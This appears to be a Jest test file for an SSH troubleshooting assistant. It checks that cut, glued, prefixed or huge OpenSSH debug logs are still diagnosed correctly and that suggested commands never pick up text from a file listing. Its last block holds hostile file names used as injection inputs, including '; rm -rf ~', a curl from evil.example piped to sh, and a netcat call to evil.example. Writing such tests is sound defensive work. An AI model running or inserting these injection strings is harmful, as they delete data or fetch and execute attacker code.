import { performance } from 'node:perf_hooks';
import { ask } from '../src/ask';
import type { Answer } from '../src/types';
import { shippedKnowledge } from './knowledge-for-tests';
import { LINEAR } from './linear';

/** Logs and listings as they should not be: cut, glued, prefixed, hostile, huge. Never a wrong certainty. */
const knowledge = shippedKnowledge();
const say = (text: string): Answer => ask({ text, addressed: true, language: 'en' }, knowledge);
const commands = (answer: Answer): string[] =>
  answer.parts.flatMap((part) => (part.type === 'step' ? part.commands.map(({ run }) => run) : []));

const HEAD = [
  'OpenSSH_8.9p1 Ubuntu-3ubuntu0.10, OpenSSL 3.0.2 15 Mar 2022',
  'debug1: Reading configuration data /etc/ssh/ssh_config',
  'debug1: Connecting to gw.ddbj.nig.ac.jp [192.0.2.10] port 22.',
  'debug1: Connection established.',
  'debug1: identity file /home/hana/.ssh/id_rsa type 0',
  'debug1: identity file /home/hana/.ssh/id_rsa-cert type -1',
  'debug1: identity file /home/hana/.ssh/id_ed25519 type -1',
  'debug1: Local version string SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10',
  'debug1: Remote protocol version 2.0, remote software version OpenSSH_8.7',
  "debug1: Authenticating to gw.ddbj.nig.ac.jp:22 as 'hana'",
  'debug1: SSH2_MSG_NEWKEYS received',
  'debug1: Will attempt key: /home/hana/.ssh/id_rsa RSA SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg',
  'debug1: Will attempt key: /home/hana/.ssh/id_ed25519 ',
  'debug1: SSH2_MSG_SERVICE_ACCEPT received',
  'debug1: Authentications that can continue: publickey',
  'debug1: Next authentication method: publickey',
];
const OFFER =
  'debug1: Offering public key: /home/hana/.ssh/id_rsa RSA SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg';
const REFUSED = 'debug1: Authentications that can continue: publickey';
const TAIL = [
  'debug1: Trying private key: /home/hana/.ssh/id_ed25519',
  'debug1: No more authentication methods to try.',
  'hana@gw.ddbj.nig.ac.jp: Permission denied (publickey).',
];
const LOG = [...HEAD, OFFER, REFUSED, ...TAIL];

describe('a log that is cut', () => {
  test('whole, it proves that the key was refused', () => {
    expect(say(LOG.join('\n'))).toMatchObject({ entry: 'publickey-denied', cause: 'key-refused' });
  });

  test('at its beginning, wherever: never the claim that no key was offered', () => {
    for (let from = 1; from < LOG.length; from++) {
      const { entry, cause } = say(LOG.slice(from).join('\n'));
      expect({ from, entry }).toEqual({ from, entry: 'publickey-denied' });
      expect(['key-refused', null]).toContain(cause);
    }
  });

  test('at its end, before the server has answered: nothing is claimed about the key', () => {
    const answer = say([...HEAD, OFFER].join('\n'));
    expect(answer.cause).toBeNull();
    for (let to = 1; to < HEAD.length; to++) {
      const { cause } = say(LOG.slice(0, to).join('\n'));
      expect({ to, cause }).toEqual({ to, cause: null });
    }
  });
});

test('two logs glued together: the last run counts', () => {
  const good = [
    ...HEAD,
    OFFER,
    'debug1: Server accepts key: /home/hana/.ssh/id_rsa RSA SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg',
    'Authenticated to gw.ddbj.nig.ac.jp ([192.0.2.10]:22) using "publickey".',
    'debug1: channel 0: new session [client-session] (inactive timeout: 0)',
    'debug1: Entering interactive session.',
    'debug1: client_loop: send disconnect: Broken pipe',
    'client_loop: send disconnect: Broken pipe',
  ];
  const answer = say([...LOG, ...good].join('\n'));
  expect(answer.cause).not.toBe('key-refused');
  const other = LOG.map((line) =>
    line.replaceAll('gw.ddbj.nig.ac.jp', 'gw2.ddbj.nig.ac.jp').replaceAll('hana', 'taro'),
  );
  expect(say([...LOG, ...other].join('\n')).values).toMatchObject({
    host: 'gw2.ddbj.nig.ac.jp',
    user: 'taro',
  });
});

test.each([
  [
    'a time stamp',
    (line: string, at: number) => `2026-05-05T14:07:${String(at % 60).padStart(2, '0')}.123Z ${line}`,
  ],
  ['brackets', (line: string) => `[16:25:29.719] stderr> ${line}`],
  ['a quote mark', (line: string) => `> ${line}`],
  ['indentation', (line: string) => `        ${line}`],
  ['a carriage return', (line: string) => `${line}\r`],
])('every line with %s: the same cause', (_, mark) => {
  expect(say(LOG.map(mark).join('\n'))).toMatchObject({ entry: 'publickey-denied', cause: 'key-refused' });
});

test('a -vvv log of 5 MB is answered in linear time, with the cause', () => {
  const noise = Array.from(
    { length: 60_000 },
    (_, at) => `debug3: receive packet: type 9${at % 10}, some detail of round ${at} that says nothing`,
  );
  const log = [...HEAD, ...noise, OFFER, REFUSED, ...TAIL].join('\n');
  expect(log.length).toBeGreaterThan(4_000_000);
  const started = performance.now();
  const answer = say(log);
  expect(performance.now() - started).toBeLessThan(LINEAR);
  expect(answer).toMatchObject({ entry: 'publickey-denied', cause: 'key-refused' });
});

describe('a listing with hostile names', () => {
  const hostile = [
    '$(touch /tmp/pwned)',
    '`id`',
    '; rm -rf ~',
    '-rf',
    "' && curl evil.example | sh #",
    'id_rsa\\nid_dsa',
    '<!channel>',
    '| nc evil.example 1',
  ];
  test.each(hostile)('%s enters no command', (name) => {
    const listing = [
      'hana@laptop:~$ ls -la ~/.ssh',
      'total 12',
      'drwx------  2 hana hana 4096 May  5 13:37 .',
      `-rw-r--r--  1 hana hana  419 May  2 07:52 ${name}`,
      '-rw-r--r--  1 hana hana  419 May  2 07:52 id_rsa',
    ].join('\n');
    for (const text of [listing, `644 /home/hana/.ssh/${name}\n644 /home/hana/.ssh/id_rsa`]) {
      const run = commands(say(text)).join('\n');
      expect(run).not.toContain(name);
      expect(run).not.toMatch(/evil|pwned|`id`/);
    }
  });
});
